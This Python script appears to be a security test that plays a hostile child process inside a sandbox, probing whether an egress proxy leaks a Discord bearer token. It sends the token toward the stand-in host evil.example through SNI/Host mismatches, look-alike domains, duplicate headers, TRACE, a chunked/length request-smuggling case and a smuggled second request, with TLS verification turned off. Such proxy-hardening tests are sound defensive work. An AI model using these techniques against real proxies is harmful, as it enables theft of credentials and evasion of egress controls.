"""A child that wants the token: it speaks raw sockets to the proxy it was given, and to everything else.

Run inside of a run. Prints one JSON line an attempt: its name, and what came back.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import ssl
import urllib.request
from urllib.parse import urlsplit

TOKEN = os.environ.get("DISCORD_ACCESS_TOKEN", "")
AUTH = f"Authorization: Bearer {TOKEN}\r\n"
PROXY = urlsplit(os.environ.get("HTTPS_PROXY", ""))
CREDENTIALS = (
    "Proxy-Authorization: Basic " + base64.b64encode(f"{PROXY.username}:{PROXY.password}".encode()).decode()
)


def dial(authority: str) -> socket.socket:
    connection = socket.create_connection((PROXY.hostname or "", PROXY.port or 0), timeout=10)
    connection.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{CREDENTIALS}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += connection.recv(1)
    if b" 200 " not in head:
        raise OSError(head.decode("latin-1"))
    return connection


def read(connection: socket.socket) -> str:
    connection.settimeout(5)
    data = b""
    try:
        while chunk := connection.recv(65536):
            data += chunk
    except OSError:
        pass
    return data.decode("latin-1")


def tunnel(authority: str, sni: str | None, request: str) -> str:
    """CONNECT to one name, TLS to another, HTTP to a third."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with dial(authority) as raw, context.wrap_socket(raw, server_hostname=sni) as connection:
        connection.sendall(request.encode("latin-1"))
        return read(connection)


def clear(authority: str, request: str) -> str:
    """Plain text inside a tunnel."""
    with dial(authority) as connection:
        connection.sendall(request.encode("latin-1"))
        return read(connection)


def absolute(url: str, host: str, auth: str = AUTH) -> str:
    """A cleartext request in absolute form."""
    with socket.create_connection((PROXY.hostname or "", PROXY.port or 0), timeout=10) as connection:
        head = f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{CREDENTIALS}\r\n{auth}Connection: close\r\n\r\n"
        connection.sendall(head.encode())
        return read(connection)


def get(host: str, extra: str = "", target: str = "/standin/echo", method: str = "GET") -> str:
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{extra}{AUTH}Connection: close\r\n\r\n"


def ask(url: str) -> str:
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {TOKEN}"})  # noqa: S310
    with urllib.request.urlopen(request, timeout=10) as answer:  # noqa: S310
        return str(answer.read().decode())


EVIL, DISCORD = "evil.example", "discord.com"
TUNNELS = {
    "evil": (EVIL, EVIL, get(EVIL)),
    "evil, host discord": (EVIL, EVIL, get(DISCORD)),
    "evil, sni discord": (EVIL, DISCORD, get(EVIL)),
    "evil, sni and host discord": (EVIL, DISCORD, get(DISCORD)),
    "look-alike suffix": ("discord.com.evil.example", "discord.com.evil.example", get(DISCORD)),
    "look-alike prefix": ("evildiscord.com", "evildiscord.com", get(DISCORD)),
    "subdomain": ("sub.discord.com", "sub.discord.com", get("sub.discord.com")),
    "discord, sni evil": (DISCORD, EVIL, get(DISCORD)),
    "discord, sni and host evil": (DISCORD, EVIL, get(EVIL)),
    "discord, host evil": (DISCORD, DISCORD, get(EVIL)),
    "discord, no sni": (DISCORD, None, get(DISCORD)),
    "two hosts": (DISCORD, DISCORD, get(DISCORD, "Host: evil.example\r\n")),
    "two hosts, evil first": (DISCORD, DISCORD, get(EVIL, "Host: discord.com\r\n")),
    "absolute form": (DISCORD, DISCORD, get(DISCORD, target="https://evil.example/standin/echo")),
    "absolute form, host evil": (DISCORD, DISCORD, get(EVIL, target="https://evil.example/standin/echo")),
    "trace": (DISCORD, DISCORD, get(DISCORD, method="TRACE")),
    "folded header": (DISCORD, DISCORD, get(DISCORD, "X: a\r\n b\r\n")),
    "two authorizations": (DISCORD, DISCORD, get(DISCORD, "Authorization: Bearer x\r\n")),
    "length and chunks": (
        DISCORD,
        DISCORD,
        get(DISCORD, "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", method="POST") + "0\r\n\r\n",
    ),
    "smuggled second request": (
        DISCORD,
        DISCORD,
        f"GET /standin/echo HTTP/1.1\r\nHost: discord.com\r\n{AUTH}\r\n" + get(EVIL),
    ),
}


def attempts() -> dict[str, object]:
    tried: dict[str, object] = {
        name: lambda a=authority, s=sni, r=request: tunnel(f"{a}:443", s, r)
        for name, (authority, sni, request) in TUNNELS.items()
    }
    return tried | {
        "cleartext": lambda: absolute("http://discord.com/standin/echo", DISCORD),
        "cleartext to evil, host discord": lambda: absolute("http://evil.example/standin/echo", DISCORD),
        "cleartext in a tunnel": lambda: clear("discord.com:443", get(DISCORD)),
        "cleartext in a tunnel to port 80": lambda: clear("discord.com:80", get(DISCORD)),
        "token endpoint": lambda: tunnel(
            "discord.com:443", DISCORD, get(DISCORD, target="/api/oauth2/token", method="POST")
        ),
        "honest": lambda: ask("https://discord.com/api/v10/users/@me"),
    }


def main() -> None:
    for name, attempt in attempts().items():
        assert callable(attempt)
        try:
            outcome = attempt()
        except (OSError, ssl.SSLError) as error:
            outcome = f"failed: {error}"
        print(json.dumps({"attempt": name, "outcome": outcome}), flush=True)


if __name__ == "__main__":
    main()
